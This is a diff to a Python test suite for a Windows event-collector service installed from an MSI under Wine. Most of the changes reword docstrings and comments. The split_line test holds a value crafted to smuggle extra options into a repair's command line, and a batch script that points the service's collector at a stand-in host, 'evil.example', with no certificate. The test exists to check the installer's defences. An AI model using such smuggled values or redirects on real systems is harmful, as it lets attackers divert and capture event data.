@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """The shipped program as a service under Wine, from its MSI to its removal, beside a native collector: it starts without a
-certificate and without the collector, says so once, and ships every event of a real trace exactly as a native replay does;
-stop, kill, the end of the whole session and an upgrade in place lose nothing; a reload touches only what differs; removal
-leaves what the manual names.
+certificate and without the collector, logs each of these once, and ships every event of a real trace exactly as a native replay does.
+Stop, kill, the end of the whole session and an upgrade in place lose nothing. A reload restarts only what differs. Removal
+keeps the files that the manual names.
 
 usage: tests/windows/test_service.py --build build/windows --native build/dev [--soak]"""
 import argparse
@@ -127,7 +127,7 @@ def check_tables(env, checks, package):
                            "Privileges": ("etwagent", "6", "SeChangeNotifyPrivilege[~]SeSystemProfilePrivilege")}, "MsiServiceConfig")
     checks.equal([(row[1], row[3], row[6], row[7]) for row in rows("MsiServiceConfigFailureActions")],
                  [("etwagent", "86400", "1[~]1[~]1", "5000[~]30000[~]300000")], "MsiServiceConfigFailureActions")
-    # No property of a user reaches the system's part of a repair, none stands on a command line, and a repair writes no configuration.
+    # No property of a user reaches the system's part of a repair, no property is on a command line, and a repair writes no configuration.
     secure = dict(row[:2] for row in rows("Property"))["SecureCustomProperties"].split(";")
     checks.equal(sorted(secure), ["WIX_DOWNGRADE_DETECTED", "WIX_UPGRADE_DETECTED"], "SecureCustomProperties")
     conditions = {row[0]: row[1] for row in rows("InstallExecuteSequence")}
@@ -188,8 +188,8 @@ def injections(checks, session, collector, package):
 
 
 def split_line(checks, service):
-    """What a repair made of TOKEN=abc" --replace --profiles "C:\\Users\\me\\p and PROFILE=evil while values stood in a command line: Windows'
-    own rules split it into these options again."""
+    """The command line that a repair made of TOKEN=abc" --replace --profiles "C:\\Users\\me\\p and PROFILE=evil when values were still passed
+    on a command line: Windows' own rules split it into these options."""
     before = (service.data / "etwagent.yaml").read_bytes()
     script = service.session.path("C:\\injected.bat")
     script.write_text(f'@"{service.exe}" configure --collector "https://evil.example" --ca "" --profile "evil" --profiles "{PROGRAMS}\\profiles\\." '
@@ -250,7 +250,7 @@ def install(env, checks, session, collector, package):
 
 
 def waits_for_configuration(checks, service):
-    """Nothing to read at the start: who asks is told so, until there is something."""
+    """There is no configuration at the start: commands report this error until a configuration exists."""
     config, aside = service.data / "etwagent.yaml", service.data / "aside.yaml"
     service.run("stop")
     config.rename(aside)
